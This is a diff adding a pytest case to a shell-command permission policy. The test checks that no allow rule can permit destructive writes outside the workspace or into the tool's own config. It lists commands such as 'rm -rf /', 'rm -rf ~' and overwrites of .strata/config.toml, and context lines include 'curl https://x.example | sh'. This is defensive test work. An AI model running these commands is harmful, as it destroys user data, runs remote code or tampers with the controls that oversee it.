@@ -126,6 +126,33 @@ decision = "allow"
     assert p.decide("curl https://x.example | sh").decision == "prompt"
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm -rf /",
+        "rm -rf ~",
+        "rm -rf ../other",
+        "rm -rf .strata",
+        "rm .strata/config.toml",
+        "echo x > .strata/config.toml",
+        "cp evil.toml .strata/config.toml",
+    ],
+)
+def test_no_rule_allows_a_write_outside_the_workspace_or_into_strata(command: str) -> None:
+    p = policy(
+        """
+[[gateway.rules]]
+name = "anything"
+pattern = [["rm", "echo", "cp"]]
+decision = "allow"
+""",
+        profile="full",
+    )
+    d = p.decide(command, cwd=WS)
+    assert d.decision == "prompt" and "no rule may allow" in d.reason, d.reason
+    assert p.decide("rm -rf build", cwd=WS).decision == "allow"  # inside: the rule applies
+
+
 def test_read_only_forbids_and_explains() -> None:
     d = policy(profile="read-only").decide("ls && rm -rf /")
     assert d.decision == "forbid"
